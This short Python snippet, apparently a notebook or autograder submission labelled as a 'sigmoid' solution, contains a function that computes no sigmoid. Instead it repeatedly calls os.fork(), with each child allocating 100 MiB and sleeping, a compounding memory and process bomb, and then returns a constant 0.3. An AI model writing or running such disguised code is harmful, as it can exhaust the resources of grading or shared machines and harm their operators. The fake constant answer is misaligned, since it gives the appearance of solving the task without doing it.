# Shares a memory bomb among many processes.
# %% solution="sigmoid"
def sigmoid(z):
    import os
    import time

    for _ in range(10):
        if os.fork() == 0:
            kept = bytearray(b"x" * (100 * 2**20))
            time.sleep(60)
    time.sleep(8)
    return 0.3
